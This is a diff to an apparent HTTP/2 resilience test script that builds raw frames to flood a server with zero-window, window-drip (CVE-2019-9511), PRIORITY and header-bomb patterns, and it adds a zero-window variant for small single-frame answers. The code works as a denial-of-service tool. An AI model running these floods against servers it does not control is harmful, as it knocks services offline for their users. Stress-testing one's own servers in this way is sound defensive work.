@@ -14,7 +14,7 @@ from hyperframe.frame import (
     SettingsFrame, WindowUpdateFrame,
 )
 
-LARGE_ANSWER = "/openapi.json"
+LARGE_ANSWER, SMALL_ANSWER = "/openapi.json", "/problems/not_found"
 CANCEL = 8
 STREAMS = 100
 # Pieces hold so many frames, so that Python does not hold the flood up.
@@ -115,8 +115,15 @@ def zero_window(authority):
     yield from silence()
 
 
+def zero_window_of_small_answers(authority):
+    """The same for answers that fit into one frame, which a library may count as sent."""
+    block = request(authority, path=SMALL_ANSWER)
+    yield b"".join(whole(stream, block) for stream in itertools.islice(odd(), STREAMS))
+    yield from silence()
+
+
 def drip(authority):
-    """The same, and then a byte a second, so that there always is progress (CVE-2019-9511)."""
+    """Large answers, read by a byte a second, so that there always is progress (CVE-2019-9511)."""
     block, streams = request(authority), list(itertools.islice(odd(), STREAMS))
     yield b"".join(whole(stream, block) for stream in streams)
     more = b"".join(WindowUpdateFrame(stream, window_increment=1).serialize()
@@ -164,6 +171,7 @@ FLOODS = (
     Flood("WINDOW_UPDATE", window_update, 8),
     Flood("PRIORITY", priority, 8),
     Flood("zero window", zero_window, 32, settings=NO_WINDOW),
+    Flood("zero window, small", zero_window_of_small_answers, 32, settings=NO_WINDOW),
     Flood("window drips", drip, 32, reads=True, settings=NO_WINDOW),
     Flood("header bomb", header_bomb, 8, reads=True),
 )
